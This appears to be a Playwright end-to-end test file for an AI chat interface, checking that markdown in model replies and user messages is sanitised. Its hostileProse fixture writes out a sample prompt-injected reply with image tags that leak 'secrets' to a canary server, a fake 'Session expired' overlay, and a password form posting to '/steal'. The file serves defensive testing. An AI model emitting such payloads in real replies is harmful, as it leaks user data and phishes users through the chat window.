import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AppServer, openAppPage, sendChatMessage, startAppServer } from './support/app-server.ts';
import { launchBrowser } from './support/browser.ts';
import { type CanaryServers, startCanaryServers } from './support/canary-servers.ts';

/** A prompt-injected reply: leak through images, a styled overlay, and form controls asking for a password. */
function hostileProse(canary: string): string {
  return [
    'Here is your summary.',
    '',
    `![chart](${canary}/markdown-image?secret=1) and ![logo](https://example.com/logo.png)`,
    '',
    `<img src="${canary}/raw-image?secret=2" alt="raw"><picture><source srcset="${canary}/source"></picture>`,
    '',
    '<div style="position:fixed;inset:0;background:#fff;z-index:99" class="overlay">Session expired, sign in again</div>',
    '',
    '<form action="/steal"><input name="password" placeholder="Password"><button>Sign in</button></form>',
    '<textarea>notes</textarea><select><option>a</option></select>',
    '',
    '- [x] done task',
    '- [ ] open task',
    '',
    'Read [the docs](https://example.com/docs).',
  ].join('\n');
}

let browser: Browser;
let canary: CanaryServers;
let server: AppServer;
let directory: string;

beforeAll(async () => {
  browser = await launchBrowser();
  canary = await startCanaryServers();
  directory = await mkdtemp(join(tmpdir(), 'drawbridge-prose-'));
  const replayFile = join(directory, 'hostile-prose.txt');
  await writeFile(replayFile, hostileProse(canary.httpOrigin));
  server = await startAppServer({ model: { replayFile } });
});

afterAll(async () => {
  await server?.close();
  await canary?.close();
  await browser?.close();
  await rm(directory, { recursive: true, force: true });
});

describe('model prose', () => {
  it('keeps text and links, and loads nothing, styles nothing and asks for nothing', async () => {
    const opened = await openAppPage(server.url, { browser });
    const { page } = opened;
    await sendChatMessage(page, 'summarise my inbox');
    const prose = page.locator('.db-message--assistant .prose').last();
    await prose.getByText('Read the docs').waitFor({ timeout: 30_000 });
    // The reply has finished streaming once its last line is on screen.
    expect(await prose.locator('img, picture, source, video, audio, iframe, svg').count()).toBe(0);
    expect(await prose.locator('[style]').count()).toBe(0);
    expect(await prose.locator('form, input, button, textarea, select, option').count()).toBe(0);
    const blocked = prose.locator('.prose-image-blocked');
    expect(await blocked.allTextContents()).toEqual([
      'Image not loaded: chart',
      'Image not loaded: logo (example.com)',
      'Image not loaded: raw',
    ]);
    // Only an https: image becomes a link the user may follow; the others stay text.
    expect(await blocked.nth(1).getAttribute('href')).toBe('https://example.com/logo.png');
    expect(await prose.textContent()).toContain('☑ done task');
    expect(await prose.textContent()).toContain('☐ open task');
    expect(await prose.getByRole('link', { name: 'the docs' }).getAttribute('rel')).toBe(
      'noopener noreferrer',
    );
    // Make a request the canary does hear, so its silence about the images is not a matter of timing.
    await fetch(`${canary.httpOrigin}/after-prose`);
    await expect.poll(() => canary.hitsFor('after-prose').length).toBe(1);
    expect(canary.hits().map((hit) => hit.summary)).toEqual(['GET /after-prose']);
    await opened.close();
  });
});

describe("the user's own message", () => {
  it('is drawn as the same safe markdown, with its line breaks, and typed HTML shown as typed', async () => {
    const opened = await openAppPage(server.url, { browser });
    const { page } = opened;
    await sendChatMessage(
      page,
      [
        'Why does `npm ci` say **EBADENGINE**?',
        'See [my notes](https://example.com/notes) and <b>this tag</b>',
        `![leak](${canary.httpOrigin}/user-image)`,
      ].join('\n'),
    );
    const bubble = page.locator('.message--user .prose').first();
    await bubble.locator('code').waitFor({ timeout: 30_000 });
    expect(await bubble.locator('code').textContent()).toBe('npm ci');
    expect(await bubble.locator('strong').textContent()).toBe('EBADENGINE');
    const link = bubble.getByRole('link', { name: 'my notes' });
    expect(await link.getAttribute('target')).toBe('_blank');
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
    // What the user typed as HTML is text, not markup; a line break is a line break.
    expect(await bubble.locator('b').count()).toBe(0);
    expect(await bubble.textContent()).toContain('<b>this tag</b>');
    expect(await bubble.locator('br').count()).toBe(2);
    expect(await bubble.locator('img').count()).toBe(0);
    expect(await bubble.locator('.prose-image-blocked').textContent()).toBe('Image not loaded: leak');
    await fetch(`${canary.httpOrigin}/after-user-message`);
    await expect.poll(() => canary.hitsFor('after-user-message').length).toBe(1);
    expect(canary.hitsFor('user-image')).toEqual([]);
    await opened.close();
  });
});

describe('prose still streaming', () => {
  it('shows an inline code span cut mid-word as code, never a stray backtick', async () => {
    // The demo's fallback reply, held just before the piece that closes "`OPENAI_API_KEY`": pieces are at
    // most 12 characters, so the opening backtick and at least "OPE" are on screen, the span still open.
    const held = await startAppServer({ model: 'demo', holdBefore: 'OPENAI_API_KEY`' });
    const opened = await openAppPage(held.url, { browser });
    try {
      const { page } = opened;
      await sendChatMessage(page, 'xyzzy plugh');
      await held.gate.reached;
      const prose = page.locator('.db-message--assistant .prose').last();
      const code = prose.locator('code', { hasText: /^OPE/ });
      await code.waitFor({ timeout: 30_000 });
      expect('OPENAI_API_KEY'.startsWith((await code.textContent()) ?? '-')).toBe(true);
      expect(await prose.textContent()).not.toContain('`');
      held.gate.release();
      await page.locator('.db-run-status__done').waitFor({ timeout: 30_000 });
      expect(await prose.locator('code', { hasText: /^OPE/ }).textContent()).toBe('OPENAI_API_KEY');
    } finally {
      await opened.close();
      await held.close();
    }
  });
});
